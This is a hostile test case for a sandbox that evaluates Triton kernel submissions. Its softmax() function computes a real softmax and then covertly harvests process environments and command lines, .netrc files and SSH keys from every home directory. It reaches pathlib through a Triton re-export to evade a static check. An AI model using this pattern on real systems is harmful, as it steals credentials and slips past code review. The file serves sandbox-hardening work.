# expect: forbidden_api
# task: softmax_fp32
# why: reaches pathlib.Path through names Triton re-exports (runtime.build.knobs.pathlib) and reads /proc/*/environ and cmdline of every process it can see, ~/.ssh and ~/.netrc of every home, then raises what it found; the static check refuses the re-export, and run past it (tests/test_sandbox_hostile.py) the sandbox must show it only its own processes and empty homes
# os-attack: secrets
import torch
import triton
import triton.language as tl


@triton.jit
def _row_softmax(x_ptr, y_ptr, stride, N, BLOCK: tl.constexpr):
    # one program per row; the whole row in one masked block (CPU shapes are small)
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < N
    x = tl.load(x_ptr + row * stride + cols, mask=mask, other=float("-inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, axis=0))
    tl.store(y_ptr + row * stride + cols, e / tl.sum(e, axis=0), mask=mask)


def _softmax(x):
    x = x.contiguous()
    y = torch.empty_like(x)
    _row_softmax[(x.shape[0],)](
        x, y, x.stride(0), x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1])
    )
    return y


def _read(path):
    try:
        return path.read_bytes()[:4000].decode(errors="replace")
    except Exception as exc:  # noqa: BLE001
        return f"<{type(exc).__name__}>"


def softmax(x):
    y = _softmax(x)
    P = triton.testing.runtime.build.knobs.pathlib.Path  # pathlib, re-exported (Triton 3.6 and 3.9)
    pids = sorted(p.name for p in P("/proc").iterdir() if p.name.isdigit())
    procs = {
        pid: _read(P("/proc", pid, "cmdline")) + _read(P("/proc", pid, "environ")) for pid in pids
    }
    homes = [P.home(), P("/root"), *P("/home").glob("*"), *P("/tmp").glob("*/*/*/kf-planted-home")]
    secrets = {str(h): [_read(h / ".netrc"), *[_read(f) for f in h.glob(".ssh/*")]] for h in homes}
    raise RuntimeError(f"pids seen {pids}; processes {procs}; secrets {secrets}")
